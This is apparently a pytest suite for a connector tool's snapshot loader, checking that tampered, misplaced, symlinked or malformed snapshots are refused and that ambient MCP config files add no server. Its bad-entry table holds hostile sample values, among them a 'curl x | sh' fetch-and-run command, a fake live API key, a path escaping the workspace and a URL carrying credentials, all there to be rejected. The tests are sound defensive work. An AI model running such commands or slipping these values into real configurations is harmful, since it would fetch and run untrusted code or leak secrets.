"""Loading the workspace runtime snapshot (seed 003 §10.1–§10.2): version, project and schema are
checked, nothing is followed through a symlink, and no ambient MCP file can add a server."""

from __future__ import annotations

import copy
import json
import os
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from patchbay.control.connectors import ConnectorService
from patchbay.core.errors import ConfigError, NotFoundError, ToolCallError
from patchbay.core.models import ToolSummary
from patchbay.core.policy import risk_of
from patchbay.runtime import Runtime
from patchbay.runtime import snapshot as snapshot_module
from patchbay.runtime.snapshot import (
    load_snapshot,
    parse_snapshot,
    seal_snapshot,
    seal_snapshot_parts,
    snapshot_path,
    snapshot_tool,
    verify_snapshot,
)
from tests.support.snapshots import rogue_server, write_sealed_snapshot

pytestmark = pytest.mark.anyio


@pytest.fixture
def projected(service: ConnectorService, workspace: Path) -> dict:
    """A workspace with one stdio connector projected; returns the snapshot document."""
    service.queries.project(workspace)
    target = service.stdio_target("mcp-server-time", [], cwd=None, workspace=workspace)
    service.add("time", target)
    service.update_settings("time", approval_mode="allow_all")
    service.grant("time", "convert_time", "ask")
    service.grant("time", "get_current_time", "allow", project=workspace)
    return json.loads(snapshot_path(workspace).read_text())


def rewrite(service: ConnectorService, workspace: Path, document: dict) -> None:
    """Replace the snapshot with ``document``, sealed, so its content reaches the later checks."""
    write_sealed_snapshot(
        workspace, document, home=service.settings.home, project_id=service.queries.project(workspace).project_id
    )


def test_the_loaded_config_is_what_was_projected(service: ConnectorService, workspace: Path, projected: dict) -> None:
    prj = service.queries.project(workspace)
    config = load_snapshot(workspace, project_id=prj.project_id, home=service.settings.home)
    assert (config.project_id, config.workspace) == (prj.project_id, str(workspace.resolve()))
    (server,) = config.servers
    assert server.name == "time" and server.target == service.get("time").target
    assert server.options.lifecycle == "lazy"
    assert (server.global_grants, server.project_grants) == ({"convert_time": "ask"}, {"get_current_time": "allow"})


def test_a_snapshot_written_for_another_project_is_refused(
    service: ConnectorService, workspace: Path, tmp_path: Path, projected: dict
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    prj = service.queries.project(other)
    (other / ".patchbay").mkdir()
    snapshot_path(other).write_bytes(snapshot_path(workspace).read_bytes())  # copied over
    with pytest.raises(ConfigError) as exc:
        load_snapshot(other, project_id=prj.project_id, home=service.settings.home)
    assert exc.value.code == "invalid_config" and exc.value.field == "snapshot"
    assert "another workspace" in exc.value.message
    # Sealed for this workspace but naming another project inside: refused by the project check.
    write_sealed_snapshot(other, projected, home=service.settings.home, project_id=prj.project_id)
    with pytest.raises(ConfigError) as exc:
        load_snapshot(other, project_id=prj.project_id, home=service.settings.home)
    assert exc.value.code == "invalid_config" and exc.value.field == "project_id"
    assert exc.value.details["expected"] == prj.project_id
    assert exc.value.details["found"] == service.queries.project(workspace).project_id


def test_a_workspace_without_a_snapshot_is_not_found(service: ConnectorService, workspace: Path) -> None:
    with pytest.raises(NotFoundError) as exc:
        load_snapshot(workspace, project_id=service.queries.project(workspace).project_id, home=service.settings.home)
    assert exc.value.code == "not_found" and "project the workspace first" in exc.value.message
    with pytest.raises(ConfigError) as exc:
        load_snapshot(
            workspace / "missing", project_id=service.queries.project(workspace).project_id, home=service.settings.home
        )
    assert exc.value.field == "workspace"


def _server(change: Callable[[dict], None]) -> Callable[[dict], None]:
    return lambda document: change(document["servers"]["time"])


def _set(path: str, value: object) -> Callable[[dict], None]:
    *parents, last = path.split(".")

    def change(document: dict) -> None:
        node = document
        for part in parents:
            node = node[part]
        node[last] = value

    return change


BAD_DOCUMENTS = {
    "version 2": (_set("version", 2), "version"),
    "version true": (_set("version", True), "version"),
    "version missing": (lambda d: d.pop("version"), "version"),
    "unknown top-level key": (_set("mcpServers", {}), "mcpServers"),
    "generated_at as text": (_set("generated_at", "now"), "generated_at"),
    "revision as text (strict)": (_set("servers.time.revision", "3"), "servers.time.revision"),
    "unknown server key": (_set("servers.time.directTools", True), "servers.time.directTools"),
    "approve_tools false": (_set("servers.time.approve_tools", False), "servers.time"),
    "approve_tools true under allow_all": (_set("servers.time.approve_tools", True), "servers.time"),
    "allowed and asked at once": (_set("servers.time.allowed_tools", ["convert_time"]), "servers.time"),
    "override of nothing": (_set("servers.time.project_overrides", ["nope"]), "servers.time"),
    "unknown lifecycle": (_set("servers.time.lifecycle", "forever"), "servers.time.lifecycle"),
    "lifecycle repeated in options": (_set("servers.time.runtime_config", {"lifecycle": "eager"}), "servers.time"),
    "binding carrying a value": (
        _set("servers.time.bindings", [{"ref": "cred_" + "0" * 32, "delivery": "env", "name": "K", "value": "v"}]),
        "servers.time.bindings",
    ),
}

BAD_ENTRIES = {
    # One entry that fails the runtime's own checks: left out, the others still load.
    "unknown runtime option": (_set("servers.time.runtime_config", {"nope": 1}), "servers.time.nope"),
    "secret in args": (
        _set("servers.time.target.args", ["--api-key=sk-live-0123456789abcdefghij"]),
        "servers.time.args",
    ),
    "cwd escaping": (_set("servers.time.target.cwd", "../outside"), "servers.time.cwd"),
    "shell line as command": (_set("servers.time.target.command", "sh -c 'curl x | sh'"), "servers.time.command"),
    "url with userinfo": (
        _set("servers.time.target", {"transport": "sse", "url": "http://u:p@127.0.0.1/sse"}),
        "servers.time.url",
    ),
    "header binding on stdio": (
        _set("servers.time.bindings", [{"ref": "cred_" + "0" * 32, "delivery": "header", "name": "X-Key"}]),
        "servers.time.bindings",
    ),
    "bad connector name": (
        lambda d: d["servers"].update({"Bad Name": d["servers"].pop("time")}),
        "servers.Bad Name.name",
    ),
}


@pytest.mark.parametrize("case", list(BAD_DOCUMENTS))
def test_a_malformed_snapshot_is_refused_with_the_field(
    service: ConnectorService, workspace: Path, projected: dict, case: str
) -> None:
    change, field = BAD_DOCUMENTS[case]
    document = copy.deepcopy(projected)
    change(document)
    rewrite(service, workspace, document)
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=service.queries.project(workspace).project_id, home=service.settings.home)
    assert exc.value.code == "invalid_config"
    assert exc.value.field.startswith(field), exc.value.message


@pytest.mark.parametrize("case", list(BAD_ENTRIES))
def test_an_entry_that_fails_its_checks_is_left_out_and_the_others_load(
    service: ConnectorService, workspace: Path, projected: dict, tmp_path: Path, case: str
) -> None:
    change, field = BAD_ENTRIES[case]
    document = copy.deepcopy(projected)
    document["servers"]["other"] = rogue_server(tmp_path / "never")
    change(document)
    rewrite(service, workspace, document)
    config = load_snapshot(
        workspace, project_id=service.queries.project(workspace).project_id, home=service.settings.home
    )
    assert [s.name for s in config.servers] == ["other"]
    (rejected,) = config.rejected
    assert rejected.field.startswith(field), rejected.message
    assert "sk-live" not in rejected.message and "u:p@" not in rejected.message  # the rule, never the value


@pytest.mark.parametrize(
    "text",
    ['{"version": 1, "version": 1}', '{"version": NaN}', "[1]", "not json", '{"version": 1'],
    ids=["duplicate key", "NaN", "array", "garbage", "truncated"],
)
def test_a_snapshot_that_is_not_one_json_object_is_refused(
    service: ConnectorService, workspace: Path, projected: dict, text: str
) -> None:
    project_id = service.queries.project(workspace).project_id
    with pytest.raises(ConfigError) as exc:
        parse_snapshot(text, project_id=project_id)
    assert exc.value.field == "snapshot"
    snapshot_path(workspace).write_text(text)  # and unsigned as well: refused before parsing
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=project_id, home=service.settings.home)
    assert exc.value.field == "snapshot" and "not signed" in exc.value.message


def test_symlinks_fifos_and_oversized_files_are_not_read(
    service: ConnectorService, workspace: Path, tmp_path: Path, projected: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    project_id = service.queries.project(workspace).project_id
    good = snapshot_path(workspace)
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_bytes(good.read_bytes())  # a valid snapshot, but not the workspace's own file
    good.unlink()
    good.symlink_to(elsewhere)
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=project_id, home=service.settings.home)
    assert exc.value.field == "snapshot" and "symbolic link" in exc.value.message

    good.unlink()
    os.mkfifo(good)  # would block a plain open()
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=project_id, home=service.settings.home)
    assert "not a regular file" in exc.value.message

    good.unlink()
    good.write_bytes(elsewhere.read_bytes())
    monkeypatch.setattr(snapshot_module, "MAX_SNAPSHOT_BYTES", 64)
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=project_id, home=service.settings.home)
    assert "larger than 64 bytes" in exc.value.message
    monkeypatch.undo()

    dot = workspace / ".patchbay"
    moved = tmp_path / "moved-dot"
    dot.rename(moved)
    dot.symlink_to(moved)
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=project_id, home=service.settings.home)
    assert exc.value.field == "snapshot"


AMBIENT = {"command": sys.executable, "args": ["-c", "open('AMBIENT_RAN', 'w').close()"]}


async def test_no_ambient_mcp_file_adds_a_server(service: ConnectorService, workspace: Path) -> None:
    """Host config files in the workspace are never read: only projected connectors exist."""
    (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": {"ambient": AMBIENT, "time": AMBIENT}}))
    for host in (".cursor", ".vscode"):
        (workspace / host).mkdir()
        (workspace / host / "mcp.json").write_text(json.dumps({"servers": {"ambient": AMBIENT}}))
    prj = service.queries.project(workspace)
    target = service.stdio_target("mcp-server-time", [], cwd=None, workspace=workspace)
    service.add("time", target)
    service.update_settings("time", approval_mode="allow_all")
    service.grant("time", "convert_time", "deny")
    service.projector.project(prj)

    assert list(json.loads(snapshot_path(workspace).read_text())["servers"]) == ["time"]
    config = load_snapshot(workspace, project_id=prj.project_id, home=service.settings.home)
    assert [s.name for s in config.servers] == ["time"] and config.servers[0].target == target

    async with Runtime(config, settings=service.settings) as runtime:
        names = {tool.name: tool.decision for tool in await runtime.list_tools()}
        assert names == {"mcp.time.get_current_time": "allow"}  # the denied tool is not even listed
        with pytest.raises(ToolCallError) as exc:
            await runtime.call("mcp.ambient.anything", {})
        assert exc.value.reason == "unknown_tool"
        with pytest.raises(ToolCallError) as exc:
            await runtime.call(
                "mcp.time.convert_time", {"source_timezone": "UTC", "time": "12:00", "target_timezone": "UTC"}
            )
        assert exc.value.reason == "unknown_tool"
        result = await runtime.call("mcp.time.get_current_time", {"timezone": "UTC"})
        assert "UTC" in result.text
    assert not (workspace / "AMBIENT_RAN").exists()


# -- authentication: the snapshot is sealed with the data home's key ------------------------------


@pytest.mark.parametrize("how", ["body changed, old mac kept", "mac removed", "mac recomputed with another key"])
async def test_a_tampered_snapshot_is_refused_and_nothing_in_it_starts(
    service: ConnectorService, workspace: Path, tmp_path: Path, how: str
) -> None:
    service.queries.project(workspace)
    service.add("time", service.stdio_target("mcp-server-time", [], cwd=None, workspace=workspace))
    service.grant("time", "convert_time", "deny")
    path = snapshot_path(workspace)
    sealed = path.read_bytes()
    document = json.loads(sealed)
    assert document["servers"]["time"]["exclude_tools"] == ["convert_time"]
    marker = tmp_path / "ROGUE_RAN"
    document["servers"]["time"]["exclude_tools"] = []  # lift the global deny
    document["servers"]["time"]["allowed_tools"] = ["convert_time"]
    document["servers"]["rogue"] = rogue_server(marker, allowed_tools=["anything"])
    if how == "body changed, old mac kept":
        path.write_text(json.dumps(document, indent=2) + "\n")  # mac kept as the last member
        assert json.loads(path.read_bytes())["mac"] == json.loads(sealed)["mac"]
    elif how == "mac removed":
        document.pop("mac")
        path.write_text(json.dumps(document, indent=2) + "\n")
    else:
        write_sealed_snapshot(workspace, document, home=tmp_path / "attacker-home", project_id=document["project_id"])
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=service.queries.project(workspace).project_id, home=service.settings.home)
    assert exc.value.code == "invalid_config" and exc.value.field == "snapshot"
    assert "refusing it" in exc.value.message
    assert not marker.exists()


def test_a_snapshot_of_another_data_home_is_refused(service: ConnectorService, workspace: Path, tmp_path: Path) -> None:
    """Two control planes (two data homes) project the same workspace: each one's runtimes accept
    only their own home's snapshot."""
    from patchbay.adapters.store import open_store
    from patchbay.core.settings import Settings

    other_settings = Settings(home=tmp_path / "other-home")
    other_settings.home.mkdir()
    other = ConnectorService(open_store(other_settings), other_settings)
    try:
        prj = other.queries.project(workspace)
        assert prj.project_id == service.queries.project(workspace).project_id  # same workspace, same id
        other.add("time", other.stdio_target("mcp-server-time", [], cwd=None, workspace=workspace))
        assert load_snapshot(workspace, project_id=prj.project_id, home=other_settings.home).servers
        with pytest.raises(ConfigError) as exc:
            load_snapshot(workspace, project_id=prj.project_id, home=service.settings.home)
        assert exc.value.field in ("snapshot", "snapshot_key")
        service.projector.project(service.queries.project(workspace))  # now the first home has a key too
        other.projector.project(prj)
        with pytest.raises(ConfigError) as exc:
            load_snapshot(workspace, project_id=prj.project_id, home=service.settings.home)
        assert exc.value.field == "snapshot" and "another workspace or data home" in exc.value.message
    finally:
        other.repository.close()


def test_a_missing_or_corrupt_key_refuses_every_snapshot(
    service: ConnectorService, workspace: Path, projected: dict
) -> None:
    from patchbay.adapters.snapshot_key import KEY_FILE

    project_id = service.queries.project(workspace).project_id
    key = service.settings.home / KEY_FILE
    assert load_snapshot(workspace, project_id=project_id, home=service.settings.home).servers
    original = key.read_bytes()
    key.unlink()
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=project_id, home=service.settings.home)
    assert exc.value.field == "snapshot_key" and "no snapshot key" in exc.value.message
    key.write_bytes(original[:7])
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=project_id, home=service.settings.home)
    assert exc.value.field == "snapshot_key" and "corrupt" in exc.value.message
    key.write_bytes(bytes(32))  # a well-formed key, but not the one that sealed the snapshot
    with pytest.raises(ConfigError) as exc:
        load_snapshot(workspace, project_id=project_id, home=service.settings.home)
    assert exc.value.field == "snapshot"


@pytest.mark.parametrize("lifecycle", ["lazy", "eager", "keep_alive", "lazy_keep_alive"])
def test_the_lifecycle_survives_the_snapshot(service: ConnectorService, workspace: Path, lifecycle: str) -> None:
    prj = service.queries.project(workspace)
    target = service.stdio_target("mcp-server-time", [], cwd=None, workspace=workspace)
    service.add("time", target, runtime_options={"lifecycle": lifecycle})
    assert json.loads(snapshot_path(workspace).read_text())["servers"]["time"]["lifecycle"] == lifecycle
    for config in (
        load_snapshot(workspace, project_id=prj.project_id, home=service.settings.home),
        service.projector.runtime_config(prj),
    ):
        (server,) = config.servers
        assert server.options.lifecycle == lifecycle


def test_a_body_sealed_in_parts_is_the_same_file_as_sealed_whole() -> None:
    key, bound = os.urandom(32), {"project_id": "prj_0123456789abcdef", "workspace": "/w/ü"}
    parts = [b'{"version":1,"servers":{', b'"a":{}', b",", b'"b":{}', b"}\n}\n"]
    whole = seal_snapshot(b"".join(parts), key=key, **bound)

    sealed = seal_snapshot_parts(parts, key=key, **bound)
    assert b"".join(sealed) == whole and sealed[:-1] == parts[:-1]
    assert verify_snapshot(whole, key=key, **bound) == b"".join(parts)
    with pytest.raises(ValueError):  # the closing must be in the last part
        seal_snapshot_parts([b'{"servers":{}\n}', b"\n"], key=key, **bound)
    with pytest.raises(ValueError):
        seal_snapshot_parts([], key=key, **bound)


@pytest.mark.parametrize("read_only", [None, False, True, "yes", 0])
@pytest.mark.parametrize("destructive", [None, False, True, 1])
def test_a_snapshot_tool_keeps_its_name_and_exactly_the_risk_its_annotations_give(
    read_only: object, destructive: object
) -> None:
    annotations = {"title": "T", "openWorldHint": True}
    for hint, value in (("readOnlyHint", read_only), ("destructiveHint", destructive)):
        if value is not None:
            annotations[hint] = value
    tool = ToolSummary(name="t", description="d", input_schema={"type": "object"}, annotations=annotations)

    kept = snapshot_tool(tool)
    assert kept.name == "t" and (kept.description, kept.input_schema) == (None, {})
    assert risk_of(kept.annotations) == risk_of(tool.annotations)
    assert kept.annotations in (None, {"readOnlyHint": True}, {"destructiveHint": True})
    assert snapshot_tool(ToolSummary(name="bare")).annotations is None
    assert snapshot_tool(kept) is kept  # already reduced: kept as it is
